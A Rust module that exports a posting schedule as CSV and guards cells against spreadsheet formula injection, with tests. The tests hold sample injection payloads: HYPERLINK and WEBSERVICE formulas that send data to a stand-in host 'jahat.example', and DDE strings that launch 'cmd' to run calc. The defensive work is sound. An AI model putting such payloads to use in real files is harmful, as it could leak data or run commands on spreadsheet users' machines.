//! `schedule.csv`: every post with its day, its files and its words, one row for each account and format: for a spreadsheet, and
//! for schedulers that read one. Nothing in it is a formula.

use std::borrow::Cow;

use super::done::Done;
use super::texts::hashtags;
use crate::deliver::words::Words;

/// Spreadsheets take a file for UTF-8 that begins with this.
const BYTE_ORDER_MARK: &str = "\u{feff}";

/// The table, by time of publication, with headings in the project's language. Posts without one come last.
pub(super) fn table(done: &Done<'_>) -> String {
    let words = Words::of(done.project.config.locale);
    let mut posts: Vec<_> = done.posts().collect();
    posts.sort_by_key(|post| {
        (post.item.publish.is_none(), post.item.publish.clone().map(|at| at.timestamp()))
    });
    let mut csv = csv::Writer::from_writer(BYTE_ORDER_MARK.as_bytes().to_vec());
    // Nothing can fail in memory.
    let _ = csv.write_record(words.schedule);
    for post in posts {
        let publish = post.item.publish.as_ref();
        let when = |form: &str| publish.map(|at| at.strftime(form).to_string()).unwrap_or_default();
        for record in post.records {
            let inside =
                |path: &str| path.strip_prefix(done.pack).unwrap_or(path).trim_start_matches('/').to_owned();
            let files: Vec<String> = record.artifacts.iter().map(|artifact| inside(&artifact.path)).collect();
            let (files, tags) = (files.join("; "), hashtags(&post.item.post));
            let cells: [Cow<'_, str>; 12] = [
                when("%Y-%m-%d").into(),
                when("%H:%M").into(),
                // A sign at the beginning of a cell begins a formula.
                when("UTC%:z").into(),
                harmless(post.account),
                harmless(post.item.service.as_deref().unwrap_or_default()),
                harmless(&post.item.id),
                harmless(&record.format),
                harmless(&files),
                harmless(post.item.post.caption.trim()),
                harmless(&tags),
                harmless(&post.item.post.link),
                harmless(post.item.post.alt.trim()),
            ];
            let _ = csv.write_record(cells.iter().map(|cell| cell.as_bytes()));
        }
    }
    String::from_utf8(csv.into_inner().unwrap_or_default()).unwrap_or_default()
}

/// `text` as a cell that no spreadsheet works out: an apostrophe stands before what would begin a formula. Spreadsheets read a cell
/// with one as text, and most do not show it; a scheduler that reads the file shows it before such a text.
///
/// Where a semicolon stands between cells, as in Indonesia, a spreadsheet that is not told of the commas begins a cell after each
/// semicolon and each end of a line, quoted or not. There an apostrophe stands before what is a formula, not before the dash of a
/// list or the name of an account.
fn harmless(text: &str) -> Cow<'_, str> {
    let mut out = String::new();
    let mut rest = text;
    // Blanks before it, lines among them, belong to what begins there.
    let mut from = text.len() - seen(text).len();
    let mut guarded = begins_formula(text);
    loop {
        let end = rest[from..].find(BREAKS).map_or(rest.len(), |at| from + at + 1);
        let (part, after) = rest.split_at(end);
        if guarded {
            out.push('\'');
        }
        out.push_str(part);
        if after.is_empty() {
            break;
        }
        (rest, from, guarded) = (after, 0, is_formula(after.split(BREAKS).next().unwrap_or(after)));
    }
    if out.len() == text.len() { text.into() } else { out.into() }
}

/// What may end a cell.
const BREAKS: [char; 4] = [';', '\n', '\r', '\t'];

/// What begins a formula, as wide as East Asian keyboards write it, too.
const SIGNS: [char; 8] = ['=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'];

/// `part` from its first character on that is seen.
fn seen(part: &str) -> &str {
    part.trim_start_matches(|c: char| {
        c.is_whitespace()
            || c.is_control()
            || matches!(c, '"' | '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{2060}' | '\u{feff}')
    })
}

/// Whether a cell that holds `text` may be taken for a formula.
fn begins_formula(text: &str) -> bool {
    text.starts_with(['\t', '\r', '\n']) || seen(text).starts_with(SIGNS)
}

/// Whether `part` may be taken for one. People begin lines with dashes and names of accounts, and write telephone numbers: these are
/// none, as long as nothing in them is a call or leads elsewhere.
fn is_formula(part: &str) -> bool {
    let mut characters = seen(part).chars();
    let (Some(sign), next) = (characters.next(), characters.next()) else { return false };
    let calls = || {
        let is_call = |(at, _): (usize, &str)| part[..at].ends_with(|c: char| c.is_alphanumeric());
        part.contains(['|', '!']) || part.match_indices('(').any(is_call)
    };
    let is_number = next.is_some_and(|next| next.is_ascii_digit());
    let is_item = next.is_none_or(char::is_whitespace);
    match sign {
        '=' | '\u{ff1d}' => true,
        '+' | '\u{ff0b}' => !is_number || calls(),
        '-' | '\u{ff0d}' => !(is_number || is_item) || calls(),
        '@' | '\u{ff20}' => part.contains('(') || calls(),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_begins_a_formula_is_text() {
        for cell in [
            "=HYPERLINK(\"http://jahat.example/?\"&A1;\"Klik\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+62 812 3456",
            "-5",
            "=",
            "  =1+1",
            "\u{a0}@a",
            "\u{feff}=1",
            "\u{200b}=1",
            "\t=1",
            "\tteks",
            "\rteks",
            "\u{ff1d}1+1",
            "\u{ff0b}1",
            "\u{ff0d}1",
            " \u{ff20}SUM(1)",
            "\"=1",
        ] {
            assert_eq!(harmless(cell), format!("'{cell}"));
        }
    }

    #[test]
    fn what_a_semicolon_or_a_line_ends_begins_no_formula() {
        assert_eq!(harmless("Halo;=1+1"), "Halo;'=1+1");
        assert_eq!(harmless("Halo\n =HYPERLINK(\"x\")\nsampai"), "Halo\n' =HYPERLINK(\"x\")\nsampai");
        assert_eq!(harmless("a;-cmd|'/C calc'!A0"), "a;'-cmd|'/C calc'!A0");
        assert_eq!(harmless("a; @SUM(A1)"), "a;' @SUM(A1)");
        for formula in [
            "+'\\\\jahat\\s\\[b.xlsx]L'!A1",
            "+HYPERLINK (\"http://jahat.example\"&A1)",
            "+WEBSERVICE\u{a0}(\"http://jahat.example\")",
            "-A1",
            "@SUM (A1)",
            "+1+HYPERLINK(\"x\")",
        ] {
            assert_eq!(harmless(&format!("a;{formula}")), format!("a;'{formula}"));
        }
        // What people write in lists is left alone.
        for text in [
            "Bawa:\n- buku\n- pensil (dua)\n+62 812 3456\n-5 derajat\n@pustekkom",
            "",
            "a = b",
            "https://contoh.id/?a=b",
            "#Satu #Dua",
        ] {
            assert_eq!(harmless(text), text);
        }
    }
}
